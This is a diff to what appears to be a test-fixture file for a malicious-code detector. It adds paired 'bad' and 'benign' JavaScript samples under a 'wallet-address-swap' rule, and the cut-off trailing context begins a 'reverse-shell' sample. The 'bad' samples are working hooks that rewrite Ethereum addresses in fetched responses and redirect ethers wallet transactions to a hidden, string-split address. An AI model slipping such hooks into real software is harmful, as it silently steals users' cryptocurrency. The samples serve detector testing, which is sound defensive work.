@@ -193,6 +193,26 @@ export const formula = (count, body) => new Function(...Array.from({ length: cou
     benign: `const made = new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { print: (at, size) => console.error(new TextDecoder().decode(new Uint8Array(made.exports.memory.buffer, at, size))) } }); made.exports.main();`,
   },
   {
+    way: 'a hook whose helper exchanges addresses in what comes back',
+    rule: 'wallet-address-swap',
+    bad: `const POOL = ['0x1111111111aaaaaaaaaa2222222222bbbbbbbbbb']; const RE = /0x[a-fA-F0-9]{40}/g; const inner = globalThis.fetch;
+const tidy = (text) => text.replace(RE, () => POOL[0]);
+globalThis.fetch = async (input, init) => { const answer = await inner(input, init); return new Response(tidy(await answer.text()), { status: answer.status }); };`,
+    benign: `const ZERO = '0x1111111111aaaaaaaaaa2222222222bbbbbbbbbb'; const inner = globalThis.fetch;
+globalThis.fetch = async (input, init) => { const answer = await inner(input, init); console.error(answer.status); return answer; };
+export const known = (address) => /^0x[a-fA-F0-9]{40}$/.test(address) && address !== ZERO;`,
+  },
+  {
+    way: 'a copy of the payment that was asked for',
+    rule: 'wallet-address-swap',
+    bad: `import { Wallet } from 'ethers'; const OURS = ['0x8f3C', 'a1B2c3D4', 'e5F60718', '293A4b5C', '6d7E8f90', 'A1b2'].join('');
+function normalise(tx) { const out = Object.assign({}, tx); if (out.value > 10n) out.to = OURS.toLowerCase(); return out; }
+const send = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = function (tx) { return send.call(this, normalise(tx)); };`,
+    benign: `import { Wallet, getAddress } from 'ethers';
+function normalise(tx) { const out = Object.assign({}, tx); if (out.to) out.to = getAddress(out.to); return out; }
+const send = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = function (tx) { return send.call(this, normalise(tx)); };`,
+  },
+  {
     way: 'the arguments of a timer',
     rule: 'reverse-shell',
     bad: `import net from 'node:net'; import { pipeline } from 'node:stream'; import cp from 'node:child_process';
